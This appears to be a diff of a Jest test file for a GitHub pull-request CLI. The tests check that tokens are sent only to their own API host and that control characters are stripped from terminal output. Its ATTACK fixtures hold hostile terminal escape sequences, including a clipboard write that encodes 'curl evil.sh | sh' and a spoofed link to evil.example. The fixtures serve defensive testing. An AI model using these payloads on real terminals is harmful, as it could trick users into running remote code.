@@ -7,10 +7,12 @@ import { afterEach, beforeAll, describe, expect, it } from '@jest/globals'
 import { existsSync } from 'node:fs'
 import { chmod, mkdir, readFile, writeFile as writeTextFile } from 'node:fs/promises'
 import path from 'node:path'
+import { randomBytes } from 'node:crypto'
 import { renderFinal, renderWorking } from '../../src/report/comment.js'
+import { renderState } from '../../src/report/state.js'
 import type { Outcome } from '../../src/report/outcome.js'
 import { STATUS_MARKER } from '../../src/github/status-comment.js'
-import { CLI_BUNDLE, createCliWorld, type CliWorld } from '../harness/cli-world.js'
+import { CLI_BUNDLE, createCliWorld, type CliResult, type CliWorld } from '../harness/cli-world.js'
 import { branchSha, fileAt, git as runGit } from '../harness/git/index.js'
 import { say, stall, writeFile } from '../harness/model/index.js'
 
@@ -358,8 +360,9 @@ describe('dispatch', () => {
       env: { GITHUB_TOKEN: undefined, GH_TOKEN: undefined, PATH: '/nonexistent' },
     })
     expect(noToken.exitCode).toBe(2)
-    expect(noToken.stderr).toMatch(
-      /^async-pr: No GitHub token\. Set GITHUB_TOKEN or GH_TOKEN, or log in with the GitHub CLI \(gh auth login\)/,
+    const host = new URL(w.git.url).host
+    expect(noToken.stderr).toContain(
+      `async-pr: No GitHub token for ${host}. Set GITHUB_TOKEN or GH_TOKEN, or log in with the GitHub CLI (gh auth login --hostname ${host}).`,
     )
 
     const badToken = await w.cli(['status', '1', '--repo', w.fullName], {
@@ -434,7 +437,8 @@ describe('dispatch', () => {
     const clone = path.join(w.root, 'clone')
     await mkdir(clone)
     await runGit(['init', '--quiet', clone])
-    await runGit(['remote', 'add', 'origin', `git@github.com:${w.fullName}.git`], { cwd: clone })
+    // On the host GITHUB_SERVER_URL names, whose API is GITHUB_API_URL.
+    await runGit(['remote', 'add', 'origin', `${w.git.url}/${w.fullName}.git`], { cwd: clone })
     await w.seedPull({ title: 'From a clone', branch: 'async/from-a-clone' })
     const result = await w.cli(['status', '1'], { cwd: clone })
     expect(result.exitCode).toBe(0)
@@ -612,5 +616,391 @@ describe('status, watch, result and list on seeded runs', () => {
       new RegExp(`#${handMade}\\s+done \\(success\\)\\s+feature/by-hand\\s+Hand made`),
     )
     expect(text.stdout).not.toContain('Plain')
+  })
+})
+
+/** A fake token of a kind, recognisable in any request that carries it. */
+function fakeToken(kind: string): string {
+  return `test-${kind}-${randomBytes(8).toString('hex')}`
+}
+
+/**
+ * A `gh` first on PATH: it prints `tokens[host]` for `gh auth token --hostname HOST`, fails
+ * otherwise, and notes each call with the token variables it was given.
+ */
+async function fakeGh(w: CliWorld, tokens: Record<string, string> = {}) {
+  const bin = await mkdtempIn(w.root, 'gh-bin-')
+  const calls = path.join(bin, 'calls')
+  const cases = Object.entries(tokens)
+    .map(([host, token]) => `  "auth token --hostname ${host}") echo ${token} ;;`)
+    .join('\n')
+  await writeTextFile(
+    path.join(bin, 'gh'),
+    `#!/bin/sh
+printf '%s|%s|%s|%s|%s\\n' "$*" "\${GITHUB_TOKEN:-}" "\${GH_TOKEN:-}" "\${GH_ENTERPRISE_TOKEN:-}" "\${GITHUB_ENTERPRISE_TOKEN:-}" >> '${calls}'
+case "$*" in
+${cases}
+  *) exit 1 ;;
+esac
+`,
+  )
+  await chmod(path.join(bin, 'gh'), 0o755)
+  return {
+    PATH: `${bin}:${process.env.PATH}`,
+    async calls(): Promise<string[]> {
+      const text = await readFile(calls, 'utf8').catch(() => '')
+      return text.split('\n').filter((entry) => entry !== '')
+    },
+  }
+}
+
+async function mkdtempIn(root: string, prefix: string): Promise<string> {
+  const dir = path.join(root, `${prefix}${randomBytes(4).toString('hex')}`)
+  await mkdir(dir, { recursive: true })
+  return dir
+}
+
+async function cloneWithOrigin(w: CliWorld, origin: string): Promise<string> {
+  const clone = await mkdtempIn(w.root, 'clone-')
+  await runGit(['init', '--quiet', clone])
+  await runGit(['remote', 'add', 'origin', origin], { cwd: clone })
+  return clone
+}
+
+describe('a token goes only to the API it was named for', () => {
+  it('refuses a host that only the origin remote or a PR URL names, before any request', async () => {
+    world = await createCliWorld()
+    const w = world
+    await w.seedPull({ title: 'Add a greeting', branch: 'async/add-a-greeting' })
+    // A forge on loopback, over real TLS, that records what reaches it.
+    const forge = await w.otherHost()
+    const gh = await fakeGh(w)
+    const tokens = {
+      GITHUB_TOKEN: w.userToken,
+      GH_TOKEN: fakeToken('gh'),
+      GH_ENTERPRISE_TOKEN: fakeToken('enterprise'),
+      GITHUB_ENTERPRISE_TOKEN: fakeToken('enterprise2'),
+    }
+    const env = {
+      ...tokens,
+      // Nothing names another API: the tokens are github.com's.
+      GITHUB_API_URL: undefined,
+      GITHUB_SERVER_URL: undefined,
+      PATH: gh.PATH,
+      NODE_EXTRA_CA_CERTS: forge.caFile,
+    }
+    const clone = await cloneWithOrigin(w, `${forge.url}/${w.fullName}.git`)
+    const pullUrl = `${forge.url}/${w.fullName}/pull/1`
+    const before = w.emulator.requests.length
+    const attempts: Array<[string[], string, string]> = [
+      [['status', '1'], clone, 'from the origin remote'],
+      [['watch', '1', '--timeout', '5s'], clone, 'from the origin remote'],
+      [['list'], clone, 'from the origin remote'],
+      [['dispatch', 'T', '--body', 'x'], clone, 'from the origin remote'],
+      [['result', pullUrl], w.root, 'from the command line'],
+      [['status', pullUrl], w.root, 'from the command line'],
+      [['list', '--repo', `${forge.host}/${w.fullName}`], w.root, 'from the command line'],
+    ]
+    for (const [args, cwd, from] of attempts) {
+      const result = await w.spawnCli(args, { cwd, env }).done
+      expect([args, result.exitCode]).toEqual([args, 2])
+      expect(result.stderr).toBe(
+        `async-pr: ${w.fullName} (${from}) is on ${forge.host}, a host no token is set for. ` +
+          'A token from GITHUB_TOKEN, GH_TOKEN, GH_ENTERPRISE_TOKEN or GITHUB_ENTERPRISE_TOKEN goes only to ' +
+          'https://api.github.com, so it was not sent and no request was made. ' +
+          `If ${forge.host} is a GitHub Enterprise Server you use, log in to it with "gh auth login --hostname ${forge.host}", ` +
+          `or set GH_HOST=${forge.host} and GH_ENTERPRISE_TOKEN, or GITHUB_API_URL=https://${forge.host}/api/v3 and GITHUB_TOKEN. ` +
+          'If the repository is on github.com, pass --repo OWNER/NAME.\n',
+      )
+      expect(result.stdout).toBe('')
+    }
+    expect(forge.requests).toEqual([])
+    for (const token of Object.values(tokens)) expect(forge.saw(token)).toBe(false)
+    expect(w.emulator.requests.length).toBe(before)
+    // gh was asked for that host's stored token, and given none of the variables' tokens.
+    const calls = await gh.calls()
+    expect(calls).toHaveLength(attempts.length)
+    for (const call of calls) expect(call).toBe(`auth token --hostname ${forge.host}||||`)
+  })
+
+  it('sends it to the host GITHUB_API_URL names, and so not to github.com', async () => {
+    world = await createCliWorld()
+    const w = world
+    await w.seedPull({ title: 'Add a greeting', branch: 'async/add-a-greeting' })
+    // A GitHub Enterprise Server: https://HOST/api/v3 in front of the emulator.
+    const ghes = await w.otherHost({ forwardApi: true })
+    const gh = await fakeGh(w)
+    const env = {
+      GITHUB_TOKEN: w.userToken,
+      GITHUB_API_URL: `${ghes.url}/api/v3`,
+      GITHUB_SERVER_URL: undefined,
+      PATH: gh.PATH,
+      NODE_EXTRA_CA_CERTS: ghes.caFile,
+    }
+    const byUrl = await w.spawnCli(['status', `${ghes.url}/${w.fullName}/pull/1`], { env }).done
+    expect(byUrl.stderr).toBe('')
+    expect(byUrl.exitCode).toBe(0)
+    expect(byUrl.stdout).toContain('#1 Add a greeting')
+    const byName = await w.spawnCli(['status', '1', '--repo', w.fullName], { env }).done
+    expect(byName.exitCode).toBe(0)
+    const clone = await cloneWithOrigin(w, `git@${ghes.host.split(':')[0]}:${w.fullName}.git`)
+    expect(ghes.requests.length).toBeGreaterThan(0)
+    for (const request of ghes.requests)
+      expect(request.headers.authorization).toBe(`token ${w.userToken}`)
+
+    // github.com (from a clone or a URL) is not where GITHUB_API_URL sends GITHUB_TOKEN.
+    const seen = ghes.requests.length
+    const githubClone = await cloneWithOrigin(w, `git@github.com:${w.fullName}.git`)
+    for (const [args, cwd] of [
+      [['status', '1'], githubClone],
+      [['result', `https://github.com/${w.fullName}/pull/1`], w.root],
+    ] as Array<[string[], string]>) {
+      const result = await w.spawnCli(args, { cwd, env }).done
+      expect(result.exitCode).toBe(2)
+      expect(result.stderr).toContain(
+        `is on github.com, but GITHUB_API_URL names ${ghes.url}/api/v3, where the token from GITHUB_TOKEN or GH_TOKEN belongs, ` +
+          'so it was not sent to github.com and no request was made.',
+      )
+    }
+    // An ssh remote names a host without a port: not the API's host:port either.
+    const bySsh = await w.spawnCli(['status', '1'], { cwd: clone, env }).done
+    expect(bySsh.exitCode).toBe(2)
+    expect(bySsh.stderr).toContain('is on localhost, a host no token is set for.')
+    expect(ghes.requests.length).toBe(seen)
+  })
+
+  it('takes GH_ENTERPRISE_TOKEN for the host GH_HOST names, as the GitHub CLI does', async () => {
+    world = await createCliWorld()
+    const w = world
+    await w.seedPull({ title: 'Add a greeting', branch: 'async/add-a-greeting' })
+    const ghes = await w.otherHost({ forwardApi: true })
+    const enterprise = fakeToken('enterprise')
+    w.emulator.state.addToken(enterprise, w.user)
+    const gh = await fakeGh(w)
+    const env = {
+      GITHUB_TOKEN: w.userToken,
+      GH_HOST: ghes.host,
+      GH_ENTERPRISE_TOKEN: enterprise,
+      GITHUB_API_URL: undefined,
+      GITHUB_SERVER_URL: undefined,
+      PATH: gh.PATH,
+      NODE_EXTRA_CA_CERTS: ghes.caFile,
+    }
+    const clone = await cloneWithOrigin(w, `${ghes.url}/${w.fullName}.git`)
+    const runs: Array<[string[], string]> = [
+      [['status', '1', '--repo', w.fullName], w.root],
+      [['status', `${ghes.url}/${w.fullName}/pull/1`], w.root],
+      [['status', '1'], clone],
+    ]
+    for (const [args, cwd] of runs) {
+      const result = await w.spawnCli(args, { cwd, env }).done
+      expect([args, result.stderr, result.exitCode]).toEqual([args, '', 0])
+      expect(result.stdout).toContain('#1 Add a greeting')
+    }
+    expect(ghes.saw(enterprise)).toBe(true)
+    expect(ghes.saw(w.userToken)).toBe(false)
+
+    // GH_HOST without its token: GITHUB_TOKEN is github.com's, so it is not sent there.
+    const seen = ghes.requests.length
+    const missing = await w.spawnCli(['status', '1', '--repo', w.fullName], {
+      env: { ...env, GH_ENTERPRISE_TOKEN: undefined },
+    }).done
+    expect(missing.exitCode).toBe(2)
+    expect(missing.stderr).toContain(
+      `async-pr: No GitHub token for ${ghes.host}. Set GH_ENTERPRISE_TOKEN or GITHUB_ENTERPRISE_TOKEN, ` +
+        `or log in with the GitHub CLI (gh auth login --hostname ${ghes.host}).`,
+    )
+    expect(ghes.requests.length).toBe(seen)
+  })
+
+  it('uses the token gh stored for that very host, and no other', async () => {
+    world = await createCliWorld()
+    const w = world
+    await w.seedPull({ title: 'Add a greeting', branch: 'async/add-a-greeting' })
+    const ghes = await w.otherHost({ forwardApi: true })
+    const stored = fakeToken('stored')
+    w.emulator.state.addToken(stored, w.user)
+    const gh = await fakeGh(w, { [ghes.host]: stored })
+    const env = {
+      GITHUB_TOKEN: w.userToken,
+      GH_ENTERPRISE_TOKEN: fakeToken('enterprise'),
+      GITHUB_API_URL: undefined,
+      GITHUB_SERVER_URL: undefined,
+      PATH: gh.PATH,
+      NODE_EXTRA_CA_CERTS: ghes.caFile,
+    }
+    const clone = await cloneWithOrigin(w, `${ghes.url}/${w.fullName}.git`)
+    const result = await w.spawnCli(['status', '1'], { cwd: clone, env }).done
+    expect(result.stderr).toBe('')
+    expect(result.exitCode).toBe(0)
+    expect(result.stdout).toContain('#1 Add a greeting')
+    expect(ghes.requests.length).toBeGreaterThan(0)
+    for (const request of ghes.requests)
+      expect(request.headers.authorization).toBe(`token ${stored}`)
+    expect(ghes.saw(w.userToken)).toBe(false)
+    expect(ghes.saw(env.GH_ENTERPRISE_TOKEN)).toBe(false)
+    expect(await gh.calls()).toEqual([`auth token --hostname ${ghes.host}||||`])
+  })
+})
+
+/** Escape sequences a status comment or a PR title could carry to the reader's terminal. */
+const ATTACK = {
+  clear: '\u001b[2J\u001b[3J\u001b[H',
+  title: '\u001b]0;owned\u0007',
+  clipboard: '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007',
+  link: '\u001b]8;;https://evil.example/\u001b\\the docs\u001b]8;;\u001b\\',
+  bell: '\u0007',
+  csi: '\u009b2J',
+  overwrite: 'tests failed\rtests passed',
+}
+const HOSTILE = Object.values(ATTACK).join(' ')
+// Every control character but newline and tab (C0, DEL, C1): none may reach the terminal.
+// eslint-disable-next-line no-control-regex -- the test looks for exactly these
+const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/
+
+function hostileComment(state: 'working' | 'success', runUrl: string): string {
+  return [
+    `### ✅ async-pr finished ${ATTACK.title}${ATTACK.csi}`,
+    '',
+    `Summary from the agent: ${HOSTILE}`,
+    '',
+    '**Checklist**',
+    '',
+    `- [x] Security review: passed ${ATTACK.link}`,
+    `- [${state === 'working' ? ' ' : 'x'}] Ship it ${ATTACK.clipboard}${ATTACK.bell}`,
+    '',
+    renderState({ v: 1, state, runUrl, sessionId: `s${ATTACK.clear}` }),
+  ].join('\n')
+}
+
+function expectClean(result: CliResult) {
+  expect(result.stdout).not.toMatch(CONTROL)
+  expect(result.stderr).not.toMatch(CONTROL)
+}
+
+describe('text others wrote reaches the terminal without control characters', () => {
+  async function hostileWorld() {
+    world = await createCliWorld()
+    const w = world
+    // Git refuses C0 and DEL in branch names, not C1.
+    const number = await w.seedPull({
+      title: `Add a greeting ${HOSTILE}`,
+      branch: 'async/greeting\u009b2J',
+    })
+    const runUrl = `${w.git.url}/${w.fullName}/actions/runs/1`
+    return { w, number, runUrl }
+  }
+
+  /** The hostile world with the run ended, and a command on it (the bundled CLI). */
+  async function endedRun(args: string[]) {
+    const { w, number, runUrl } = await hostileWorld()
+    postStatus(w, number, hostileComment('success', runUrl))
+    const result = await w.spawnCli([...args, '--repo', w.fullName]).done
+    return { w, number, result }
+  }
+
+  it('status shows the escapes as text', async () => {
+    const { number, result } = await endedRun(['status', '1'])
+    expect(result.exitCode).toBe(0)
+    expectClean(result)
+    expect(result.stdout).toContain(
+      `#${number} Add a greeting \\x1b[2J\\x1b[3J\\x1b[H \\x1b]0;owned\\x07`,
+    )
+    expect(result.stdout).toContain('async/greeting\\x9b2J → main')
+    expect(result.stdout).toContain('[x] Security review: passed \\x1b]8;;https://evil.example/')
+  })
+
+  it('result shows them as text', async () => {
+    const { result } = await endedRun(['result', '1'])
+    expect(result.exitCode).toBe(0)
+    expectClean(result)
+    expect(result.stdout).toContain('tests failed\\rtests passed')
+    expect(result.stdout).toContain('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07')
+  })
+
+  it('list shows them as text, one line per PR', async () => {
+    const { w, number, runUrl } = await hostileWorld()
+    postStatus(w, number, hostileComment('success', runUrl))
+    // A title that would add a line of its own to the list.
+    await w.seedPull({ title: 'Tidy\n#9  done (success)  async/x  Forged', branch: 'async/tidy' })
+    const result = await w.spawnCli(['list', '--repo', w.fullName]).done
+    expect(result.exitCode).toBe(0)
+    expectClean(result)
+    expect(result.stdout).toContain('async/greeting\\x9b2J')
+    expect(result.stdout).toContain('Tidy\\n#9  done (success)')
+    expect(result.stdout.trim().split('\n')).toHaveLength(2)
+  })
+
+  it('--json of status, result and list keeps the exact text, escaped', async () => {
+    const { w, number, runUrl } = await hostileWorld()
+    postStatus(w, number, hostileComment('success', runUrl))
+    for (const args of [['status', String(number)], ['result', String(number)], ['list']]) {
+      const asJson = await w.spawnCli([...args, '--json', '--repo', w.fullName]).done
+      expect(asJson.exitCode).toBe(0)
+      expectClean(asJson)
+      const parsed = JSON.parse(asJson.stdout)
+      const snapshot = Array.isArray(parsed) ? parsed[0] : parsed
+      expect(snapshot.title).toBe(`Add a greeting ${HOSTILE}`)
+      expect(snapshot.branch).toBe('async/greeting\u009b2J')
+      expect(snapshot.sessionId).toBe(`s${ATTACK.clear}`)
+      expect(snapshot.checklist[1].text).toBe(`Ship it ${ATTACK.clipboard}${ATTACK.bell}`)
+      if (args[0] === 'result') expect(snapshot.body).toContain(ATTACK.overwrite)
+    }
+  })
+
+  /** watch from "working" to the end, which comes 600 ms later. */
+  async function watchRun(extra: string[], how: 'spawn' | 'terminal') {
+    const { w, number, runUrl } = await hostileWorld()
+    postStatus(w, number, hostileComment('working', runUrl))
+    const finishing = setTimeout(
+      () => postStatus(w, number, hostileComment('success', runUrl)),
+      600,
+    )
+    const args = ['watch', String(number), '--interval', '0.1s', '--repo', w.fullName, ...extra]
+    const result = how === 'spawn' ? await w.spawnCli(args).done : await w.cli(args, { tty: true })
+    clearTimeout(finishing)
+    return { number, result }
+  }
+
+  it('watch, one line per change, shows them as text', async () => {
+    const { result } = await watchRun([], 'spawn')
+    expect(result.exitCode).toBe(0)
+    expectClean(result)
+    expect(result.stderr).toMatch(/ working: 1\/2 done, now: Ship it \\x1b\]52;c;/)
+    expect(result.stdout).toContain('Summary from the agent: \\x1b[2J')
+  })
+
+  it('watch on a terminal redraws with its own escapes and no others', async () => {
+    const { number, result } = await watchRun([], 'terminal')
+    expect(result.exitCode).toBe(0)
+    // eslint-disable-next-line no-control-regex -- the redraw's own escapes
+    const redraw = /\u001b\[\d+A\r\u001b\[0J/g
+    expect(result.stderr).toMatch(redraw)
+    expect(result.stderr.replace(redraw, '')).not.toMatch(CONTROL)
+    expect(result.stderr).toContain(`#${number} Add a greeting \\x1b[2J`)
+    expect(result.stdout).not.toMatch(CONTROL)
+  })
+
+  it('watch --json keeps the exact text, escaped', async () => {
+    const { result } = await watchRun(['--json'], 'spawn')
+    expect(result.exitCode).toBe(0)
+    expectClean(result)
+    expect(JSON.parse(result.stdout).body).toContain(ATTACK.clipboard)
+  })
+
+  it('what GitHub answers in an error, too', async () => {
+    const { w, number } = await hostileWorld()
+    w.emulator.faults.add({
+      method: 'GET',
+      path: '/repos/{owner}/{repo}/pulls/{pull_number}',
+      status: 422,
+      body: { message: `Validation Failed ${HOSTILE}` },
+    })
+    const status = await w.spawnCli(['status', String(number), '--repo', w.fullName]).done
+    expect(status.exitCode).toBe(2)
+    expectClean(status)
+    expect(status.stderr).toContain(
+      'GitHub refused to read pull request #1 (422 Validation Failed \\x1b[2J',
+    )
   })
 })
